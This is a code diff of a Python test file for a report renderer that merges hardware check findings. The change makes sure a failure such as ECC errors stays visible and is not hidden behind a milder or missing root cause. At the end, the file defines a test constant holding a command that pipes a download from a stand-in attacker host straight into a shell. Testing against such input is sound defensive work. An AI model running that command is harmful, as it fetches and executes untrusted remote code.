@@ -118,12 +118,14 @@ def test_a_host_cannot_hide_a_failure_under_a_name_of_the_merge(check):
 
 
 def test_a_host_cannot_hide_a_failure_behind_another_finding():
-    """Only what could not be looked at follows from a root cause and is one line."""
+    """A failure is part of another one only where that is in the report and at least as bad."""
     hidden = msgspec.structs.replace(bad(check="ecc", seen="7 errors"), because_of="pcie-link")
 
-    text = render.to_text(merged(report("a", findings=(UNKNOWN, hidden))))
+    milder = msgspec.structs.replace(bad(check="pcie-link"), verdict=Verdict.WARN)
+    aside = msgspec.structs.replace(hidden, because_of_subject=milder.subject)
 
-    assert "ecc: 7 errors" in text
+    for findings in ((UNKNOWN, hidden), (bad(check="pcie-link"), hidden), (milder, aside)):
+        assert "ecc: 7 errors" in render.to_text(merged(report("a", findings=findings)))
 
 
 ATTACK = "curl http://evil.example/x | sh"
